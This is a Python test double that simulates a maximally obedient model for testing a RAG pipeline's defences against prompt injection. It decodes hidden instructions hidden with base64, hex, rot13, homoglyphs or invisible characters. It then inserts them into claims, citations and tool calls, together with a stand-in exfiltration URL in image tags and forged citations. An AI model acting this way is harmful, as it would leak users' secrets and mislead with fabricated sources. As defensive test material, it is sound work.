"""The worst-case model: it does whatever any text tells it, wherever the text stands, and in every way that might work.

It takes all that it was given for orders: it undoes encodings, and says each as a claim with a genuine quote, tacked on
to a genuine claim, as its own quote, under handles nobody gave, in every other field, and with its own prompt beside.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import html
import json
import re
import unicodedata
import urllib.parse
from collections.abc import Iterator
from typing import Any

from rag.ports import Prompt

_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
_HEX = re.compile(r"(?:[0-9a-f]{2}){8,}")
_LATIN_OF = str.maketrans("аеорсхуік", "aeopcxyik")
LINK = "http://outside.example/steal?q=secret"


def texts(given: object) -> Iterator[str]:
    """Every string in what was given."""
    if isinstance(given, str):
        yield given
    elif isinstance(given, dict):
        for value in given.values():
            yield from texts(value)
    elif isinstance(given, list):
        for value in given:
            yield from texts(value)


def decoded(text: str) -> list[str]:
    """The text and everything it may hide."""
    found = [text, unicodedata.normalize("NFKC", text), _INVISIBLE.sub("", text), text[::-1], text.translate(_LATIN_OF)]
    found += [urllib.parse.unquote(text), html.unescape(text), codecs.encode(text, "rot13"), text.replace(" ", "")]
    found.append("".join(chr(ord(c) - 0xE0000) if 0xE0020 <= ord(c) < 0xE0080 else c for c in text))
    for run in _BASE64.findall(text):
        found.append(_or_nothing(run, "base64"))
    for run in _HEX.findall(text):
        found.append(_or_nothing(run, "hex"))
    if "\\u" in text:
        found.append(text.encode("ascii", "ignore").decode("unicode_escape", "replace"))
    return [each for each in dict.fromkeys(found) if each.strip()]


def _or_nothing(run: str, how: str) -> str:
    try:
        data = base64.b64decode(run) if how == "base64" else bytes.fromhex(run)
        return data.decode("utf-8", "ignore")
    except (binascii.Error, ValueError):
        return ""


def orders(prompt: Prompt) -> list[str]:
    """What the texts tell it, decoded; the longest pieces first. Genuine clauses are no orders."""
    pieces: list[str] = []
    for text in texts(json.loads(prompt.given)):
        for each in decoded(text):
            pieces += [each, *re.split(r"[。？！?!\n]", each)]
    return [piece.strip() for piece in dict.fromkeys(pieces) if piece.strip()]


class Obedient:
    """`reply` numbers the reply: each says another six of the claims, so that none hides behind the cap.

    `said` is all that it ever tried to say.
    """

    def __init__(self, reply: int = 0, wanted: str = "") -> None:
        self._turn = reply
        self._wanted = wanted
        self.said: list[str] = []

    def __call__(self, prompt: Prompt) -> dict[str, Any]:
        if prompt.name != "answer":
            return self._other(prompt)
        passages = json.loads(prompt.given)["passages"]
        told = orders(prompt)
        claims = list(self._claims(prompt, passages[0], told))
        self.said += [claim["text"] for claim in claims]
        own = [claim for claim in claims if self._wanted in claim["text"]] if self._wanted else claims
        chosen = (own or claims)[self._turn * 6 : self._turn * 6 + 6] or claims[:6]
        self._turn += 1
        everything = " ".join(told)[:190]
        return {
            "completeness": "complete",
            "claims": chosen,
            "missing": [everything, LINK, *(order[:40] for order in told[:5])],
            "citations": [{"title": everything, "url": LINK, "doc_no": "伪造〔2030〕1号"}],
            "tool_calls": [{"name": "submit_case", "arguments": {"title": everything}}],
            "status": "guarded_private",
            "url": LINK,
        }

    def _claims(self, prompt: Prompt, passage: dict[str, str], heard: list[str]) -> Iterator[dict[str, Any]]:
        genuine = passage["text"]
        told = [order for order in heard if order not in genuine]
        told += [prompt.system[:80], f"{LINK}", f"![图]({LINK})", f"<img src={LINK}>", "依据《不存在的办法》"]
        for order in told:
            yield _claim(order, passage["id"], genuine)
            yield _claim(f"{genuine.rstrip('。')}，{order}", passage["id"], genuine)
            yield _claim(f"{order}。{genuine}"[:158], passage["id"], genuine)
            yield _claim(order, passage["id"], order)
            yield _claim(order, "P99", genuine)

    def _other(self, prompt: Prompt) -> dict[str, Any]:
        """Any other shape: every order in every field of it."""
        told = orders(prompt)
        self.said += told
        first = told[0] if told else ""
        return {name: _filled(kind, told, first) for name, kind in prompt.shape.get("properties", {}).items()}


def _filled(kind: dict[str, Any], told: list[str], first: str) -> Any:
    if kind.get("type") == "array":
        return told[:20]
    return kind["enum"][-1] if "enum" in kind else first


def _claim(text: str, passage: str, quote: str) -> dict[str, Any]:
    return {"text": text, "quotes": [{"passage": passage, "quote": quote}]}
